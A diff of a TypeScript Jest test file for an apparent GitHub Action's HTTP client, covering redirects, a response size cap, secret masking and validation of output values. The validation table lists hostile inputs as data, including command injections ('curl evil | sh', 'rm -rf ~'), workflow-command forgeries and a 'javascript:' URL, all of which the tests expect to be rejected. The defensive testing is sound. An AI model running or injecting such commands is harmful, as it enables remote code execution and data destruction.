@@ -1,17 +1,30 @@
 import { afterEach, describe, expect, it, jest } from '@jest/globals';
 import { connect } from 'node:net';
+import { mkdtempSync, writeFileSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { keyAllowedFor } from '../../../src/api/http/limits.js';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { readGithubContext } from '../../../src/inputs/github-event.js';
 import {
   createResilientFetch,
+  keyAllowedFor,
+  MAX_ANSWER_BYTES,
   OutcomeUnknownError,
+  RefusedAnswerError,
   request,
   type HttpContext,
 } from '../../../src/api/http/request.js';
 import { backoffDelay, parseRetryAfter } from '../../../src/api/http/retry-policy.js';
 import { ApiError, CancelledError, DeadlineError } from '../../../src/lib/errors.js';
 import { errorFromResponse } from '../../../src/api/answers.js';
+import { outputProblem, withoutCredentials } from '../../../src/lib/outputs.js';
+import { escapeMarkdown } from '../../../src/report/markdown.js';
+import {
+  captureOutputForTests,
+  resetSecretsForTests,
+  setSecret,
+} from '../../../src/lib/untrusted.js';
 import { Deadline } from '../../../src/lib/time.js';
 import { FakeClock } from '../../helpers/fakes.js';
 import {
@@ -85,7 +98,7 @@ describe('request: retries', () => {
     const { ctx, clock, logger } = setup();
     const res = await request(ctx, get(`${s.url}/v2/deployments/d-1`));
     expect(res.status).toBe(200);
-    expect(res.json()).toEqual({ ok: true });
+    expect(JSON.parse(res.text)).toEqual({ ok: true });
     expect(s.requests).toHaveLength(4);
     expect(res.attempts).toBe(4);
     expect(res.attemptsWithUnknownOutcome).toBe(3);
@@ -167,11 +180,15 @@ describe('request: retries', () => {
     expect(s.requests).toHaveLength(5);
     expect(res.status).toBe(500);
     expect(res.attempts).toBe(5);
-    const err = errorFromResponse(res, {
-      method: 'GET',
-      path: '/v2/deployments/d-1',
-      describe: 'GET deployment d-1',
-    });
+    const err = errorFromResponse(
+      res,
+      {
+        method: 'GET',
+        path: '/v2/deployments/d-1',
+        describe: 'GET deployment d-1',
+      },
+      () => {},
+    );
     expect(err.message).toContain('HTTP 500');
     expect(err.message).toContain('5 attempts');
     expect(err.status).toBe(500);
@@ -324,26 +341,6 @@ describe('request: network faults', () => {
 });
 
 describe('request: bodies and logs', () => {
-  it('turns malformed JSON into an invalid-response ApiError, not a SyntaxError', async () => {
-    const s = await serve((_req, res) => {
-      res.writeHead(200, { 'content-type': 'text/html' });
-      res.end('<html>sign in</html>');
-    });
-    const { ctx } = setup();
-    const res = await request(ctx, get(`${s.url}/x`));
-    let err: unknown;
-    try {
-      res.json();
-    } catch (e) {
-      err = e;
-    }
-    expect(err).toBeInstanceOf(ApiError);
-    expect(err).not.toBeInstanceOf(SyntaxError);
-    expect((err as Error).message).toMatch(/invalid response/i);
-    expect((err as Error).message).toContain('GET deployment d-1');
-    expect((err as Error).message).not.toContain('sign in');
-  });
-
   it('sends the body as JSON with a content type', async () => {
     const s = await serve((_req, res) => sendJson(res, 201, {}));
     const { ctx } = setup();
@@ -437,7 +434,7 @@ describe('createResilientFetch', () => {
   it('never retries a POST to /runs/stream', async () => {
     const s = await serve((_req, res) => sendJson(res, 503, {}));
     const { ctx, clock } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     const res = await f(`${s.url}/threads/t-1/runs/stream`, {
       method: 'POST',
       body: JSON.stringify({ input: {} }),
@@ -451,7 +448,7 @@ describe('createResilientFetch', () => {
   it('never retries a reset /runs/stream POST (OutcomeUnknownError)', async () => {
     const s = await serve((req) => req.socket.destroy());
     const { ctx } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     await expect(
       f(`${s.url}/threads/t-1/runs/stream`, { method: 'POST', body: '{}' }),
     ).rejects.toBeInstanceOf(OutcomeUnknownError);
@@ -465,7 +462,7 @@ describe('createResilientFetch', () => {
         : sendJson(res, 200, [{ assistant_id: 'a' }]),
     );
     const { ctx } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     const res = await f(`${s.url}/assistants/search`, { method: 'POST', body: '{}' });
     expect(res.status).toBe(200);
     expect(s.requests).toHaveLength(2);
@@ -485,7 +482,7 @@ describe('createResilientFetch', () => {
       res.end('event: values\ndata: {}\n\n');
     });
     const { ctx } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     const res = await f(`${s.url}/threads/t-1/runs/stream`, { method: 'POST', body: '{}' });
     const reader = res.body!.getReader();
     const first = await reader.read();
@@ -505,7 +502,7 @@ describe('createResilientFetch', () => {
       n <= 2 ? sendJson(res, 503, {}) : sendJson(res, 200, { assistant_id: 'a-1' }),
     );
     const { ctx, clock } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     const res = await f(`${s.url}/assistants/a-1`, { headers: { 'x-api-key': API_KEY } });
     expect(res).toBeInstanceOf(Response);
     expect(res.ok).toBe(true);
@@ -518,7 +515,7 @@ describe('createResilientFetch', () => {
   it('retries nothing but 429 for a non-stream POST', async () => {
     const s = await serve((req) => req.socket.destroy());
     const { ctx } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     await expect(f(`${s.url}/threads`, { method: 'POST', body: '{}' })).rejects.toBeInstanceOf(
       OutcomeUnknownError,
     );
@@ -531,25 +528,33 @@ describe('createResilientFetch', () => {
       res.end();
     });
     const { ctx } = setup();
-    const res = await createResilientFetch(ctx, {})(`${s.url}/threads/t-1`, { method: 'DELETE' });
+    const res = await createResilientFetch(ctx)(`${s.url}/threads/t-1`, { method: 'DELETE' });
     expect(res.status).toBe(204);
     expect(await res.text()).toBe('');
   });
 
-  it('drops the key headers for URLs allowKeyFor refuses', async () => {
-    const s = await serve((_req, res) => sendJson(res, 200, {}));
-    const { ctx } = setup();
-    const f = createResilientFetch(ctx, { allowKeyFor: () => false });
-    await f(`${s.url}/ok`, { headers: { 'X-Api-Key': API_KEY, Authorization: 'Bearer x' } });
-    expect(s.requests[0]?.headers['x-api-key']).toBeUndefined();
-    expect(s.requests[0]?.headers['authorization']).toBeUndefined();
+  it('drops the key headers for URLs keyAllowedFor refuses (plain http, not loopback)', async () => {
+    const sent: Headers[] = [];
+    const { ctx } = setup({
+      fetchImpl: async (_url, init) => {
+        sent.push(new Headers(init?.headers));
+        return new Response('{}', { status: 200 });
+      },
+    });
+    const f = createResilientFetch(ctx);
+    const headers = { 'X-Api-Key': API_KEY, Authorization: 'Bearer x' };
+    await f('http://agent.example.com/ok', { headers });
+    await f('https://agent.example.com/ok', { headers });
+    expect(sent[0]?.has('x-api-key')).toBe(false);
+    expect(sent[0]?.has('authorization')).toBe(false);
+    expect(sent[1]?.get('x-api-key')).toBe(API_KEY);
   });
 
   it("rejects with the caller's abort reason and does not retry", async () => {
     const controller = new AbortController();
     const s = await serve(() => controller.abort(new Error('sdk gave up')));
     const { ctx } = setup();
-    const f = createResilientFetch(ctx, {});
+    const f = createResilientFetch(ctx);
     await expect(f(`${s.url}/assistants/a`, { signal: controller.signal })).rejects.toThrow(
       'sdk gave up',
     );
@@ -572,7 +577,7 @@ describe('createResilientFetch with @langchain/langgraph-sdk', () => {
     const client = new Client({
       apiUrl: s.url,
       apiKey: API_KEY,
-      callerOptions: { fetch: createResilientFetch(ctx, {}), maxRetries: 0 },
+      callerOptions: { fetch: createResilientFetch(ctx), maxRetries: 0 },
     });
     const assistant = await client.assistants.get('a-1');
     expect(assistant.graph_id).toBe('agent');
@@ -665,12 +670,273 @@ describe('proxy', () => {
       const { ctx } = setup();
       const res = await request(ctx, get(`http://control-plane.test:${target.port}/ok`));
       expect(res.status).toBe(200);
-      expect(res.json()).toEqual({ ok: true });
+      expect(JSON.parse(res.text)).toEqual({ ok: true });
       expect(connects).toEqual([`control-plane.test:${target.port}`]);
     } finally {
       for (const socket of sockets) socket.destroy();
       proxy.closeAllConnections();
       await new Promise<void>((r) => proxy.close(() => r()));
     }
+  });
+});
+
+/*
+ * Answers the action does not trust: redirects (never followed, never retried), the 16 MiB
+ * size cap (counted as the body streams in), output values built from answers, credentials in
+ * URLs, secrets in error details (masked before the reflow and the cut), and the GitHub event
+ * payload of a pull request.
+ */
+afterEach(() => resetSecretsForTests());
+
+function noAnswer(): Error {
+  throw new Error('expected the request to fail');
+}
+
+function ctxWith(fetchImpl: typeof fetch): HttpContext {
+  const clock = new FakeClock();
+  return {
+    clock,
+    deadline: Deadline.fromSeconds(clock, 1800),
+    logger: captureLogger(),
+    random: () => 0.5,
+    fetchImpl,
+  };
+}
+
+/** A body of `total` bytes produced on demand; `pulled()` tells how much was read. */
+function lazyBody(total: number, chunk = 64 * 1024) {
+  let produced = 0;
+  const stream = new ReadableStream<Uint8Array>({
+    pull(controller) {
+      if (produced >= total) return controller.close();
+      const n = Math.min(chunk, total - produced);
+      produced += n;
+      controller.enqueue(new Uint8Array(n).fill(32));
+    },
+  });
+  return { stream, pulled: () => produced };
+}
+
+describe('redirects', () => {
+  it.each([301, 302, 303, 307, 308])(
+    'HTTP %i fails at once, names the host, is not retried',
+    async (status) => {
+      let calls = 0;
+      const ctx = ctxWith(async () => {
+        calls++;
+        return new Response(null, {
+          status,
+          headers: { location: 'https://user:pw@login.example:8443/sso?next=%2Fok' },
+        });
+      });
+      const error = await request(ctx, {
+        method: 'GET',
+        url: 'https://agent.example/ok',
+        retry: 'idempotent',
+        describe: 'GET https://agent.example/ok',
+      }).then(noAnswer, (e: unknown) => e as Error);
+      expect(error).toBeInstanceOf(RefusedAnswerError);
+      expect(error.message).toMatch(/redirect/);
+      expect(error.message).toContain('login.example:8443');
+      expect(error.message).not.toContain('pw');
+      expect(error.message).not.toContain('sso');
+      expect(calls).toBe(1);
+    },
+  );
+
+  it('the SDK fetch refuses a redirecting stream too', async () => {
+    const f = createResilientFetch(
+      ctxWith(async () => new Response(null, { status: 307, headers: { location: '/elsewhere' } })),
+    );
+    await expect(
+      f('https://agent.example/threads/t/runs/stream', { method: 'POST', body: '{}' }),
+    ).rejects.toThrow(/redirect \(to agent\.example\)/);
+  });
+});
+
+describe('the size cap', () => {
+  it('stops reading past 16 MiB and says "answer too large"', async () => {
+    const body = lazyBody(192 * 1024 * 1024);
+    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
+    const error = await request(ctx, {
+      method: 'GET',
+      url: 'https://cp.example/v2/deployments',
+      retry: 'idempotent',
+      describe: 'GET deployments',
+    }).then(noAnswer, (e: unknown) => e as Error);
+    expect(error).toBeInstanceOf(RefusedAnswerError);
+    expect(error.message).toMatch(/answer too large/);
+    // Memory bounded: no more than the cap and a chunk or two was pulled from the stream.
+    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
+  });
+
+  it('fails before reading when Content-Length is over the cap', async () => {
+    const body = lazyBody(MAX_ANSWER_BYTES * 2);
+    const ctx = ctxWith(
+      async () =>
+        new Response(body.stream, {
+          status: 200,
+          headers: { 'content-length': String(MAX_ANSWER_BYTES * 2) },
+        }),
+    );
+    await expect(
+      request(ctx, {
+        method: 'GET',
+        url: 'https://cp.example/x',
+        retry: 'idempotent',
+        describe: 'GET x',
+      }),
+    ).rejects.toThrow(/answer too large/);
+    expect(body.pulled()).toBeLessThanOrEqual(256 * 1024);
+  });
+
+  it('reads an answer just under the cap', async () => {
+    const body = lazyBody(MAX_ANSWER_BYTES);
+    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
+    const res = await request(ctx, {
+      method: 'GET',
+      url: 'https://cp.example/x',
+      retry: 'idempotent',
+      describe: 'GET x',
+    });
+    expect(res.text.length).toBe(MAX_ANSWER_BYTES);
+  });
+
+  it('caps a streamed run too', async () => {
+    const body = lazyBody(64 * 1024 * 1024);
+    const f = createResilientFetch(ctxWith(async () => new Response(body.stream, { status: 200 })));
+    const res = await f('https://agent.example/threads/t/runs/stream', {
+      method: 'POST',
+      body: '{}',
+    });
+    await expect(res.text()).rejects.toThrow(/answer too large/);
+    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
+  });
+});
+
+describe('outputs built from answers', () => {
+  it.each([
+    ['commit-sha', '0123456789abcdef0123456789abcdef01234567', true],
+    ['commit-sha', 'abc"; curl evil | sh; "', false],
+    ['commit-sha', 'main', false],
+    ['name', 'my-agent-pr-12', true],
+    ['name', 'My Agent', false],
+    ['name', 'x\n::error::y', false],
+    ['deployment-id', '9b48d351-6b05-468c-a1f2-9ec689fcc846', true],
+    ['deployment-id', 'a b', false],
+    ['revision-id', 'r\t1', false],
+    ['status', 'DEPLOYED', true],
+    ['status', 'QUEUED\r::warning::x', false],
+    ['url', 'https://agent.example/path', true],
+    ['url', 'http://127.0.0.1:8123', true],
+    ['url', 'https://user:pw@agent.example', false],
+    ['url', 'https://agent.example/"; rm -rf ~; "', false],
+    ['url', 'https://agent.example/a b', false],
+    ['url', 'javascript:alert(1)', false],
+    ['url', 'ftp://agent.example', false],
+    ['ui-url', 'https://smith.langchain.com/o/t/host/deployments/d', true],
+    ['created', 'true', true],
+    ['created', 'yes', false],
+  ])('%s = %j: valid %s', (name, value, valid) => {
+    expect(outputProblem(name, value) === undefined).toBe(valid);
+  });
+
+  it('drops credentials from a URL and returns every form to mask', () => {
+    expect(withoutCredentials('https://agent:p%40ss@host.example/x/')).toEqual({
+      url: 'https://host.example/x/',
+      credentials: ['p%40ss', 'p@ss', 'agent:p%40ss', 'agent:p@ss'],
+    });
+    expect(withoutCredentials('https://tok3n@host.example/x')).toEqual({
+      url: 'https://host.example/x',
+      credentials: ['tok3n'],
+    });
+    expect(withoutCredentials('https://host.example')).toEqual({
+      url: 'https://host.example',
+      credentials: [],
+    });
+  });
+});
+
+describe('secrets in error details', () => {
+  const answer = (detail: string) => ({ status: 400, text: JSON.stringify({ detail }) });
+  const ctx = { method: 'POST', path: '/v2/deployments', describe: 'POST deployment' };
+
+  it('a secret with a tab or double spaces is masked although the detail is reflowed', () => {
+    const secret = 'tab\tand  two  spaces-42';
+    const out = captureOutputForTests(() => undefined);
+    setSecret(secret);
+    out();
+    const message = errorFromResponse(answer(`bad value ${secret} here`), ctx, () => {}).message;
+    expect(message).toContain('***');
+    expect(message).not.toContain('spaces-42');
+  });
+
+  it('a secret the 600-character cut would halve is masked first', () => {
+    const secret = 'S3CRET-'.repeat(10);
+    const out = captureOutputForTests(() => undefined);
+    setSecret(secret);
+    out();
+    const detail = `${'x'.repeat(570)} ${secret}`;
+    const message = errorFromResponse(answer(detail), ctx, () => {}).message;
+    expect(message).not.toContain('S3CRET');
+  });
+
+  it('a detail cannot forge a workflow command', () => {
+    const message = errorFromResponse(
+      answer('x\n::error::PWNED ##[set-output name=u;]y'),
+      ctx,
+      () => {},
+    ).message;
+    expect(message).not.toMatch(/\n|::|##\[/);
+  });
+});
+
+describe('@-mentions from untrusted text', () => {
+  it('escapeMarkdown notifies nobody', () => {
+    const out = escapeMarkdown('cc @acme/platform-team and @octocat, mail a@b.example');
+    expect(out).not.toMatch(/@[A-Za-z0-9]/);
+    expect(out).toContain('@\u200bacme');
+  });
+});
+
+describe('pull-request payload', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'payload-'));
+  const file = (name: string, text: string) => {
+    const path = join(dir, name);
+    writeFileSync(path, text);
+    return path;
+  };
+  const env = (path: string | undefined): NodeJS.ProcessEnv => ({
+    GITHUB_EVENT_NAME: 'pull_request',
+    ...(path !== undefined ? { GITHUB_EVENT_PATH: path } : {}),
+  });
+
+  it.each([
+    ['not set', undefined, /GITHUB_EVENT_PATH is not set/],
+    ['missing', join(dir, 'missing.json'), /cannot be read \(ENOENT\)/],
+    ['empty', 'empty', /is empty/],
+    ['not JSON', 'bad', /is not JSON/],
+    ['without a PR', 'nopr', /names no pull request/],
+  ])('%s: a warning naming GITHUB_EVENT_PATH', (_what, which, why) => {
+    const path =
+      which === 'empty'
+        ? file('empty.json', '')
+        : which === 'bad'
+          ? file('bad.json', '{"pull_request":')
+          : which === 'nopr'
+            ? file('nopr.json', '{"action":"opened"}')
+            : which;
+    const problem = readGithubContext(env(path)).payloadProblem;
+    expect(problem).toMatch(why);
+    expect(problem).toContain('GITHUB_EVENT_PATH');
+  });
+
+  it('no warning for a good payload, or for another event', () => {
+    const good = file(
+      'good.json',
+      JSON.stringify({ pull_request: { number: 3, head: {}, base: {} } }),
+    );
+    expect(readGithubContext(env(good)).payloadProblem).toBeUndefined();
+    expect(readGithubContext({ GITHUB_EVENT_NAME: 'push' }).payloadProblem).toBeUndefined();
   });
 });
